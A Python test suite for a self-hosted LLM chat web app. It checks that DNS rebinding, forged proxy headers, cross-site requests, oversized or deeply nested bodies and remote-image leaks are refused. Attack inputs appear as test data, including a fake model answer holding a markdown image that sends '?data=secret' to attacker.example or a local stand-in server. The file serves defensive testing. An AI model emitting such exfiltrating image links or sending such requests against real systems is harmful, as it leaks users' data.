"""Request-level rules (webapp/auth/gate.py), attacked as an outsider would: another site's page, a
rebound DNS name, a proxy, a huge or deeply nested body. The apps here stand in front of a fake
engine; the one whose memory is measured runs as a process of its own (`python app.py`)."""

from __future__ import annotations

import os
import select
import socket
import subprocess
import sys
import threading
import time
from collections.abc import Iterator
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from urllib.parse import urlsplit

import httpx
import pytest
import safehttpx  # type: ignore[import-untyped]
from playwright.async_api import Browser, expect

from tests.fakes import FakeEngine, Reply, serve_fake
from tests.helpers import FakeApp, free_port, make_settings, serve, until
from webapp.application import create_app
from webapp.auth.gate import HostPolicy, from_this_machine, host_name
from webapp.ops import tunnel

ROOT = Path(__file__).resolve().parent.parent
ADMIN_PASSWORD = "admin-pass-1"
MAX_BODY = 256 * 1024  # the apps here refuse bodies over this: small, so the tests send little


# -- who is "this machine", which hosts are served (pure) ---------------------------------------


@pytest.mark.parametrize(
    ("client", "headers", "local"),
    [
        ("127.0.0.1", {"host": "127.0.0.1:7860"}, True),
        ("127.0.0.1", {"host": "localhost:7860"}, True),
        ("::1", {"host": "[::1]:7860"}, True),
        ("10.0.0.5", {"host": "127.0.0.1:7860"}, False),
        (None, {"host": "localhost"}, False),
        # DNS rebinding: the browser connects to 127.0.0.1 but asks for the attacker's name.
        ("127.0.0.1", {"host": "evil.example:7860"}, False),
        ("127.0.0.1", {}, False),
        # A proxy on this machine: its visitors are loopback clients, unless it names them.
        ("127.0.0.1", {"host": "localhost", "x-forwarded-for": "203.0.113.9"}, False),
        ("127.0.0.1", {"host": "localhost", "x-forwarded-for": "127.0.0.1, 203.0.113.9"}, False),
        ("127.0.0.1", {"host": "localhost", "x-forwarded-for": "127.0.0.1"}, True),
        ("127.0.0.1", {"host": "localhost", "x-real-ip": "127.0.0.1"}, False),
        ("127.0.0.1", {"host": "localhost", "forwarded": "for=127.0.0.1"}, False),
        ("127.0.0.1", {"host": "localhost", "x-forwarded-host": "chat.example.com"}, False),
    ],
)
def test_only_a_person_on_this_machine_is_this_machine(
    client: str | None, headers: dict[str, str], local: bool
) -> None:
    assert from_this_machine(client, headers) is local


def test_the_hosts_served_follow_allowed_hosts_and_app_host() -> None:
    assert host_name("[::1]:7860") == "::1" and host_name("Chat.Example.COM.:443") == "chat.example.com"
    local = HostPolicy.from_setting("", bind_host="127.0.0.1")
    assert all(local.serves(h) for h in ("localhost:7860", "127.0.0.1", "[::1]:7860", "LOCALHOST"))
    assert not local.serves("evil.example") and not local.serves("127.0.0.1.nip.io")
    # What follows the colon must be a port: these name no host of ours, and never this machine.
    for forged in ("localhost:7860.evil.example", "localhost:x", "[::1]evil.example", "[::1]:7860x"):
        assert not local.serves(forged), forged
        assert not from_this_machine("127.0.0.1", {"host": forged}), forged
    anywhere = HostPolicy.from_setting("", bind_host="0.0.0.0")  # a container: its name is not known
    assert anywhere.serves("whatever.example")
    named = HostPolicy.from_setting("chat.example.com, other.example", bind_host="0.0.0.0")
    assert named.serves("chat.example.com:443") and named.serves("localhost") and not named.serves("evil.example")
    lan = HostPolicy.from_setting("", bind_host="192.168.1.5")
    assert lan.serves("192.168.1.5:7860") and not lan.serves("evil.example")
    assert HostPolicy.from_setting("*", bind_host="127.0.0.1").serves("evil.example")
    local.allow("abc123.gradio.live")
    assert local.serves("abc123.gradio.live")


def test_share_tunnel_visitors_may_chat_but_never_administer(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """`--share --allow-anonymous`: visitors arrive from the tunnel client on this machine (loopback),
    under the tunnel's public name. They may chat; only a person on this machine is admin."""
    # The tunnel cannot be opened offline: its client is replaced by one that "opens" at once.
    monkeypatch.setattr(tunnel, "open_link", lambda port: ("https://abc123.gradio.live", lambda: None))
    with serve_fake(FakeEngine()) as engine_url:
        settings = make_settings(
            vllm_base_url=engine_url, port=free_port(), host="127.0.0.1", data_dir=tmp_path, share=True,
            allow_anonymous=True,
        )  # fmt: skip
        with serve(create_app(settings), settings.port) as url, httpx.Client(base_url=url, timeout=30) as local:
            tunnelled = {"Host": "abc123.gradio.live", "X-Forwarded-Proto": "https"}
            with httpx.Client(base_url=url, timeout=30, headers=tunnelled) as visitor:
                assert visitor.get("/").status_code == 200  # the tunnel's name is served
                assert visitor.post("/api/conversations", json={}).status_code == 201  # and its visitors chat
                own = {"Origin": "https://abc123.gradio.live", "Sec-Fetch-Site": "same-origin"}
                for method, path in [
                    ("GET", "/api/status"),
                    ("GET", "/api/engine/log"),
                    ("POST", "/api/engine/restart"),
                    ("GET", "/api/feedback.jsonl"),
                ]:
                    assert visitor.request(method, path, headers=own).status_code == 403, path
            assert local.get("/api/status").status_code == 200  # the person at this machine is admin
            assert local.get("/api/status", headers={"Host": "evil.example"}).status_code == 421


# -- an open-mode app (this machine is admin) --------------------------------------------------


@pytest.fixture
def http(fake_app: FakeApp) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=fake_app.url, timeout=30) as client:
        client.get("/")  # the owner cookie, as a browser that opened the page has
        yield client


def test_a_rebound_host_name_is_refused_and_never_admin(http: httpx.Client) -> None:
    assert http.get("/api/status").status_code == 200  # this machine, by its own name: admin
    for path in ("/api/status", "/", "/api/conversations", "/gradio_api/info"):
        response = http.get(path, headers={"Host": "evil.example:7860"})
        assert response.status_code == 421, path
        assert "ALLOWED_HOSTS" in response.json()["error"]["hint"]


def test_a_request_naming_two_hosts_is_refused(fake_app: FakeApp) -> None:
    # Whichever Host a proxy in front routed by, the app must not read another one as its own.
    port = int(fake_app.url.rsplit(":", 1)[1])
    for hosts in (("evil.example", f"localhost:{port}"), (f"localhost:{port}", "evil.example")):
        head = "GET /api/status HTTP/1.1\r\n" + "".join(f"Host: {h}\r\n" for h in hosts) + "Connection: close\r\n\r\n"
        with socket.create_connection(("127.0.0.1", port), timeout=30) as sock:
            sock.sendall(head.encode())
            assert sock.recv(4096).split(b" ", 2)[1] == b"421", hosts


def test_a_proxy_on_this_machine_does_not_make_its_visitors_admin(http: httpx.Client) -> None:
    assert http.get("/api/status", headers={"X-Forwarded-For": "203.0.113.9"}).status_code == 403
    assert http.get("/api/status", headers={"X-Real-IP": "203.0.113.9"}).status_code == 403
    assert http.get("/api/status", headers={"X-Forwarded-For": "127.0.0.1"}).status_code == 200


def test_another_sites_page_cannot_change_anything(http: httpx.Client, fake_app: FakeApp) -> None:
    conversation = http.post("/api/conversations", json={"title": "mine"}).json()["id"]
    own = fake_app.url
    # Another port on this machine is the same *site* (SameSite cookies go along), not the same origin.
    for headers in (
        {"Origin": "http://127.0.0.1:9"},
        {"Origin": "http://localhost:" + own.rsplit(":", 1)[1]},  # another origin, though the same port
        {"Origin": "null"},
        {"Referer": "https://evil.example/page"},
        {"Sec-Fetch-Site": "cross-site"},
        {"Sec-Fetch-Site": "same-site"},
    ):
        refused = http.delete(f"/api/conversations/{conversation}", headers=headers)
        assert refused.status_code == 403, headers
        assert "another site" in refused.json()["error"]["message"]
        assert http.post("/gradio_api/queue/join", json={}, headers=headers).status_code == 403, headers
        assert http.post("/api/engine/restart", headers=headers).status_code == 403, headers
    assert http.get(f"/api/conversations/{conversation}").status_code == 200  # still there
    # Chromium sends `Origin: null` from a page whose Referrer-Policy is no-referrer; its
    # Sec-Fetch-Site, which no page can forge, still says where the request came from.
    assert (
        http.post("/api/conversations", headers={"Origin": "null", "Sec-Fetch-Site": "same-origin"}).status_code == 201
    )
    same_origin = {"Origin": own, "Sec-Fetch-Site": "same-origin"}
    assert http.patch(f"/api/conversations/{conversation}", json={"title": "x"}, headers=same_origin).status_code == 200
    assert http.delete(f"/api/conversations/{conversation}", headers={"Referer": own + "/"}).status_code == 204


def test_no_other_origin_may_read_responses(http: httpx.Client, fake_app: FakeApp) -> None:
    http.post("/api/conversations", json={"title": "private"})
    for origin in ("http://localhost:8080", "http://127.0.0.1:9", "https://evil.example", "null"):
        for path in ("/api/conversations", "/gradio_api/info", "/config", "/api/status"):
            response = http.get(path, headers={"Origin": origin})
            allowed = {name for name in response.headers if name.startswith("access-control-")}
            assert not allowed, (origin, path, allowed)
        preflight = http.options(
            "/api/conversations",
            headers={
                "Origin": origin,
                "Access-Control-Request-Method": "DELETE",
                "Access-Control-Request-Headers": "x",
            },
        )
        assert preflight.status_code == 403
        assert not {name for name in preflight.headers if name.startswith("access-control-")}
    preflight = http.options(
        "/gradio_api/queue/join", headers={"Origin": "http://localhost:1234", "Access-Control-Request-Method": "POST"}
    )
    assert preflight.status_code == 403  # Gradio alone would allow any localhost port, with credentials


def test_pages_cannot_be_framed_or_load_remote_content(http: httpx.Client) -> None:
    for path in ("/", "/api/conversations", "/login", "/healthz"):
        headers = http.get(path).headers
        assert headers["x-frame-options"] == "SAMEORIGIN", path
        assert headers["x-content-type-options"] == "nosniff", path
        assert headers["referrer-policy"] in ("same-origin", "no-referrer"), path
    csp = http.get("/").headers["content-security-policy"]
    rules = {part.split()[0]: part.split()[1:] for part in csp.split("; ")}
    assert rules["frame-ancestors"] == ["'self'"]
    assert rules["img-src"] == ["'self'", "data:", "blob:"]  # no remote images, whatever a message says
    assert rules["connect-src"] == ["'self'"] and rules["default-src"] == ["'self'"]


def test_share_pages_and_exports_cannot_be_framed_or_fetch_a_remote_image(
    http: httpx.Client, fake_app: FakeApp
) -> None:
    fake_app.fake.replies = [Reply(["Reading."], ["See ![chart](https://attacker.example/?data=secret)."]), Reply()]
    conversation = http.post("/api/conversations", json={}).json()["id"]
    http.post(f"/api/conversations/{conversation}/messages", json={"content": "summarise it"})
    link = http.post(f"/api/conversations/{conversation}/share", json={}).json()["url"]
    for path in (urlsplit(link).path, "/s/unknown"):
        page = http.get(path)
        assert page.headers["x-frame-options"] == "SAMEORIGIN" and page.headers["x-content-type-options"] == "nosniff"
        rules = {part.split()[0]: part.split()[1:] for part in page.headers["content-security-policy"].split("; ")}
        assert rules["frame-ancestors"] == ["'none'"] and rules["img-src"] == ["data:"], path
        assert "script-src" not in rules and rules["default-src"] == ["'none'"], path
    # Exports are downloads, never pages the browser renders (and would carry the page's CSP if they were).
    for path in (f"/api/conversations/{conversation}/export", "/api/export"):
        export = http.get(path)
        assert export.headers["content-disposition"].startswith("attachment"), path
        assert export.headers["x-content-type-options"] == "nosniff" and "content-security-policy" in export.headers


def test_the_page_takes_no_uploads(http: httpx.Client) -> None:
    response = http.post("/gradio_api/upload", files={"files": ("a.txt", b"hello")})
    assert response.status_code == 403
    assert response.json()["error"]["message"] == "This app takes no file uploads."
    # Gradio's screen recordings: stored, then handed to ffmpeg. The page records nothing.
    recording = http.post("/gradio_api/process_recording", files={"video": ("a.mp4", b"not a video", "video/mp4")})
    assert recording.status_code == 403 and recording.json()["error"]["message"] == "This app takes no file uploads."


# -- an accounts-mode app in a process of its own -----------------------------------------------


def _rss_kib(pid: int) -> int:
    for line in Path(f"/proc/{pid}/status").read_text().splitlines():
        if line.startswith("VmRSS:"):
            return int(line.split()[1])
    raise AssertionError("no VmRSS")


@pytest.fixture(scope="module")
def process_app(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[str, subprocess.Popen[bytes]]]:
    """`python app.py` with accounts on, in front of a fake engine; yields its URL and process."""
    work = tmp_path_factory.mktemp("gate-app")
    fake = FakeEngine()
    port = free_port()
    with serve_fake(fake) as engine_url:
        env = os.environ | {
            "VLLM_BASE_URL": engine_url,
            "APP_PORT": str(port),
            "APP_HOST": "127.0.0.1",
            "DATA_DIR": str(work / "data"),
            "ADMIN_PASSWORD": ADMIN_PASSWORD,
            "MAX_BODY_BYTES": str(MAX_BODY),
            "LOGIN_RATE": "1000/minute",
            "LOG_LEVEL": "warning",
        }
        env.pop("USERS_FILE", None)
        with (work / "app.log").open("wb") as sink:
            app = subprocess.Popen([sys.executable, "app.py"], cwd=ROOT, env=env, stdout=sink, stderr=subprocess.STDOUT)
            url = f"http://127.0.0.1:{port}"
            try:
                deadline = time.monotonic() + 120
                while time.monotonic() < deadline:
                    assert app.poll() is None, (work / "app.log").read_text()
                    try:
                        if httpx.get(f"{url}/healthz", timeout=2).status_code == 200:
                            break
                    except httpx.TransportError:
                        pass
                    time.sleep(0.2)
                else:
                    pytest.fail("the app did not start:\n" + (work / "app.log").read_text())
                yield url, app
            finally:
                app.terminate()
                app.wait(timeout=30)


def _raw_request(url: str, head: str, body_chunks: Iterator[bytes]) -> tuple[int, int]:
    """Send a request on a socket, chunk after chunk until the server answers; its status and the bytes sent."""
    host, port = url.removeprefix("http://").split(":")
    sent = 0
    with socket.create_connection((host, int(port)), timeout=30) as sock:
        sock.sendall(head.encode())
        for chunk in body_chunks:
            if select.select([sock], [], [], 0)[0]:
                break  # the answer came before the body was all sent
            try:
                sock.sendall(chunk)
            except (BrokenPipeError, ConnectionResetError):
                break
            sent += len(chunk)
        answer = sock.recv(4096)
    return int(answer.split(b" ", 2)[1]), sent


def test_a_huge_body_is_refused_before_it_is_held_in_memory(process_app: tuple[str, subprocess.Popen[bytes]]) -> None:
    url, app = process_app
    host = url.removeprefix("http://")
    before = _rss_kib(app.pid)
    # Declared: refused from the headers alone, before a byte of the body is read.
    head = (
        f"POST /login HTTP/1.1\r\nHost: {host}\r\nContent-Type: application/json\r\nContent-Length: 300000000\r\n\r\n"
    )
    status, sent = _raw_request(url, head, iter([b"x" * 65536] * 4577))
    assert status == 413
    # Not declared (chunked): refused once it passes the limit, not once it has all come; signed in,
    # so that the API's routes read the body rather than answer 401 before it.
    with httpx.Client(base_url=url, timeout=30) as client:
        client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD})
        cookie = "; ".join(f"{name}={value}" for name, value in client.cookies.items())
    megabyte = b"x" * (1 << 20)
    for path in ("/login", "/api/conversations", "/v1/chat/completions", "/gradio_api/queue/join"):
        chunks = (f"{len(megabyte):x}\r\n".encode() + megabyte + b"\r\n" for _ in range(50))
        head = (
            f"POST {path} HTTP/1.1\r\nHost: {host}\r\nCookie: {cookie}\r\nContent-Type: application/json\r\n"
            "Transfer-Encoding: chunked\r\n\r\n"
        )
        status, sent = _raw_request(url, head, chunks)
        assert status == 413 and sent < 50 * len(megabyte), path
    assert _rss_kib(app.pid) - before < 30_000  # a held 50 MB body would show here
    with httpx.Client(base_url=url, timeout=60) as client:
        client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD})
        # An import may be larger (IMPORT_MAX_BYTES), but it is spooled to disk, not held either.
        before = _rss_kib(app.pid)
        padded = b" " * (50 << 20) + b"[]"
        imported = client.post("/api/import", files={"file": ("conversations.json", padded, "application/json")})
        assert imported.status_code == 201 and imported.json()["imported"] == 0
        assert _rss_kib(app.pid) - before < 30_000
        client.cookies.clear()
        for path in ("/login", "/api/conversations", "/gradio_api/queue/join", "/logout"):
            response = client.post(
                path, content=b"[" + b" " * MAX_BODY + b"]", headers={"content-type": "application/json"}
            )
            assert response.status_code == 413, path
            assert "MAX_BODY_BYTES" in response.json()["error"]["hint"]
        # Under the limit, the same routes answer as before.
        assert client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD}).status_code == 200


def test_deeply_nested_json_is_a_400_never_a_500(process_app: tuple[str, subprocess.Popen[bytes]]) -> None:
    """Every route that takes a body, as /openapi.json lists them (so a new one is attacked too), and Gradio's."""
    url, app = process_app
    nested = b"[" * 100_000 + b"]" * 100_000  # 200 KB, deeper than any parser recurses
    with httpx.Client(base_url=url, timeout=60) as client:
        client.post("/login", json={"name": "admin", "password": ADMIN_PASSWORD})
        client.post("/api/users", json={"name": "bob", "password": "bob-pass-123"})
        conversation = client.post("/api/conversations", json={}).json()["id"]
        client.post(f"/api/conversations/{conversation}/messages", json={"content": "hi"})
        message = client.get(f"/api/conversations/{conversation}").json()["messages"][-1]["id"]
        ids = {"conversation_id": conversation, "message_id": str(message), "name": "bob"}
        routes = [
            (method.upper(), path.format(**ids))
            for path, operations in client.get("/openapi.json").json()["paths"].items()
            for method, operation in operations.items()
            if "application/json" in operation.get("requestBody", {}).get("content", {})
        ]
        assert len(routes) >= 14 and ("POST", "/v1/chat/completions") in routes
        routes += [("POST", "/login"), ("POST", "/gradio_api/queue/join"), ("POST", "/gradio_api/run/predict")]
        for method, path in routes:
            response = client.request(method, path, content=nested, headers={"content-type": "application/json"})
            assert response.status_code == 400, (path, response.status_code, response.text[:200])
        before = _rss_kib(app.pid)
        imported = client.post("/api/import", files={"file": ("conversations.json", nested, "application/json")})
        assert imported.status_code == 400 and "nests deeper" in imported.json()["error"]["message"]
        assert _rss_kib(app.pid) - before < 100_000  # ijson's prefixes for it would be gigabytes
        assert client.get("/api/me").json()["name"] == "admin"  # and the app goes on


def test_login_csrf_is_refused_and_the_own_form_works(process_app: tuple[str, subprocess.Popen[bytes]]) -> None:
    url, _app = process_app
    form = {"name": "admin", "password": ADMIN_PASSWORD, "next": "/"}
    with httpx.Client(base_url=url, timeout=30) as client:
        page = client.get("/login")  # the sign-in page cannot be framed to catch a password either
        assert page.headers["x-frame-options"] == "SAMEORIGIN"
        assert "frame-ancestors 'none'" in page.headers["content-security-policy"]
        # A form on another site (or another port of this machine) posting the attacker's credentials.
        for origin in ("https://evil.example", "http://127.0.0.1:9"):
            refused = client.post("/login", data=form, headers={"Origin": origin, "Sec-Fetch-Site": "cross-site"})
            assert refused.status_code == 403 and "set-cookie" not in refused.headers
        signed_in = client.post("/login", data=form, headers={"Origin": url, "Sec-Fetch-Site": "same-origin"})
        assert signed_in.status_code == 303 and "r1chat_session=" in signed_in.headers["set-cookie"]
        # Signing out is a change too: another site cannot sign the person out.
        assert client.post("/logout", headers={"Origin": "https://evil.example"}).status_code == 403
        assert client.get("/api/me").json()["name"] == "admin"
        token = client.post("/api/tokens", json={"name": "script"}).json()["token"]
    # A Bearer token is no ambient credential: a script's request with any Origin goes through.
    with httpx.Client(base_url=url, timeout=30, headers={"Authorization": f"Bearer {token}"}) as script:
        created = script.post("/api/conversations", json={}, headers={"Origin": "https://tool.example"})
        assert created.status_code == 201


def test_trusted_origins_may_post_behind_a_proxy_that_rewrites_the_host(tmp_path: Path) -> None:
    fake = FakeEngine()
    with serve_fake(fake) as engine_url:
        settings = make_settings(
            vllm_base_url=engine_url,
            port=free_port(),
            host="127.0.0.1",
            data_dir=tmp_path,
            trusted_origins="https://chat.example.com",
        )
        with serve(create_app(settings), settings.port) as url, httpx.Client(base_url=url) as client:
            assert client.post("/api/conversations", headers={"Origin": "https://chat.example.com"}).status_code == 201
            assert client.post("/api/conversations", headers={"Origin": "https://evil.example"}).status_code == 403


# -- in the browser -------------------------------------------------------------------------------


@pytest.fixture
def leak_server() -> Iterator[tuple[str, list[str]]]:
    """A server standing for the attacker's: yields its URL and the paths it was asked for."""
    asked: list[str] = []

    class Handler(BaseHTTPRequestHandler):
        def do_GET(self) -> None:
            asked.append(self.path)
            self.send_response(200)
            self.send_header("content-type", "image/png")
            self.end_headers()

        def log_message(self, *args: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_address[1]}", asked
    finally:
        server.shutdown()
        server.server_close()


def test_the_server_fetches_nothing_from_other_sites_for_a_page(
    http: httpx.Client, leak_server: tuple[str, list[str]], monkeypatch: pytest.MonkeyPatch
) -> None:
    """Gradio's `/gradio_api/file=<url>` would fetch any public URL and hand it back from this origin,
    which the page's CSP allows ('self'): an image there would call its author's server after all."""
    leak_url, asked = leak_server
    port = urlsplit(leak_url).port

    async def public(hostname: str) -> str:
        return "127.0.0.1"  # as if attacker.example were a public address: this machine is offline

    monkeypatch.setattr(safehttpx, "async_validate_url", public)
    for path in (
        f"/gradio_api/file=http://attacker.example:{port}/pixel?data=secret",
        f"/gradio_api/file=HTTPS://attacker.example:{port}/pixel",
        f"/gradio_api/file/http://attacker.example:{port}/pixel",
    ):
        refused = http.get(path)
        assert refused.status_code == 403, path
        assert "other sites" in refused.json()["error"]["message"]
    assert asked == []


async def test_an_image_in_an_answer_is_shown_as_a_link_and_never_fetched(
    browser: Browser, fake_app: FakeApp, leak_server: tuple[str, list[str]]
) -> None:
    leak_url, asked = leak_server
    fake_app.fake.replies = [
        Reply(["Reading the document."], [f"Here: ![chart]({leak_url}/md?data=secret) and "]),
        Reply(),
    ]
    context = await browser.new_context(viewport={"width": 1200, "height": 900})
    page = await context.new_page()
    blocked: list[str] = []
    page.on(
        "console", lambda message: blocked.append(message.text) if "Content Security Policy" in message.text else None
    )
    try:
        await page.goto(fake_app.url)
        await expect(page.locator("#send")).to_be_enabled(timeout=30_000)
        await page.locator("#prompt textarea").fill("summarise it")
        await page.locator("#prompt textarea").press("Enter")
        link = page.locator("#chat a", has_text="🖼 chart")
        await expect(link).to_be_visible(timeout=20_000)
        assert await link.get_attribute("href") == f"{leak_url}/md?data=secret"
        assert await page.locator("#chat img[src^='http://127.0.0.1']").count() == 0
        # Even an image that got past the renderer (a Gradio component, a future bug) is not loaded.
        await page.evaluate(
            "url => { const i = document.createElement('img'); i.src = url; document.body.append(i); }",
            f"{leak_url}/injected",
        )
        # Once the page's CSP has refused the injected image (it says so on the console), nothing more can be fetched.
        await until(lambda: [text for text in blocked if "/injected" in text], bool, within=10)
        assert asked == []
    finally:
        await context.close()
